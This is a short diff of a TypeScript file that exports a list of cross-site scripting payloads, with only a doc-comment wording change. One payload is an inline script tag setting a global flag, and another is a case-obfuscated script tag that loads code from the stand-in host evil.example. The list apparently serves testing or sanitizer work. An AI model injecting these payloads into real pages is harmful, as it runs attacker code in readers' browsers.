@@ -1,6 +1,6 @@
 const run = 'globalThis.hacked=1';
 
-/** Texts that try to run code in the page of anyone who reads them. */
+/** Text that tries to run code in the page of anyone who reads it. */
 export const payloads: readonly string[] = [
   `<script>${run}</script>`,
   `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
